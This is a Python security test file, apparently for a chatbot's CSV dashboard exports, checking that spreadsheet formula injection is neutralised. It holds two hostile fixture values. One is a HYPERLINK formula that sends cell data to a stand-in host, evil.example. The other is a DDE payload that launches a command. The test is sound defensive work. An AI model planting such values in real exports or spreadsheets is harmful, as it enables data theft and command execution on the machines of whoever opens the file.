"""Item 13: every cell of every CSV download is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy import select

from bot.store.tables import Debtor
from bot.web.exports import FORMULA_STARTS, safe_cell
from tests.security.conftest import Stack, log_in
from tests.web.conftest import AGENT, MANAGER, hand_off

HOSTILE_REF = '=HYPERLINK("http://evil.example/?"&A1,"ver")'
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(text: str) -> list[str]:
    body = text.removeprefix("\ufeff")  # pt-BR spreadsheets: a BOM and ";" between cells
    delimiter = ";" if body.split("\n")[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(body), delimiter=delimiter) for cell in row]


async def test_conversation_and_results_exports_neutralise_formulas(stack: Stack) -> None:
    async with stack.client() as agent, stack.client(ip="203.0.113.9") as manager:
        assert (await log_in(agent, *AGENT)).status_code == 303
        await hand_off(agent, stack.runtime)
        with stack.runtime.db() as session:
            debtor = session.scalar(select(Debtor).where(Debtor.ref == "DEMO-004"))
            assert debtor is not None
            debtor.ref, debtor.name = HOSTILE_REF, HOSTILE_NAME
            session.commit()
        assert (await log_in(manager, *MANAGER)).status_code == 303
        log = await manager.get("/dashboard/conversations.csv")
        results = await manager.get("/dashboard/results.csv")
    assert log.status_code == 200
    assert results.status_code == 200
    cells = _cells(log.text)
    assert "'" + HOSTILE_REF in cells  # debtor_ref was not neutralised before
    assert "'" + HOSTILE_NAME in cells
    for cell in cells + _cells(results.text):
        assert not cell.startswith(FORMULA_STARTS) or safe_cell(cell) == cell, cell


def test_the_cell_rule() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("+5511") == "+5511"  # a plain number is not a formula
    assert safe_cell("-12.50") == "-12.50"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("\tx") == "'\tx"
    assert safe_cell("\r=x") == "'\r=x"
    assert safe_cell(None) == ""
    assert safe_cell("Ana") == "Ana"


def test_no_csv_is_written_outside_the_export_helper() -> None:
    """A new CSV download must go through ``bot.web.exports`` (privacy export included)."""
    root = Path(__file__).resolve().parents[2] / "bot"
    allowed = {
        root / "web" / "exports.py",
        root / "web" / "api.py",  # rows_to_csv feeds the importer; nothing is downloaded
    }
    writers = [
        path
        for path in root.rglob("*.py")
        if ("csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text)
        and path not in allowed
    ]
    assert writers == []
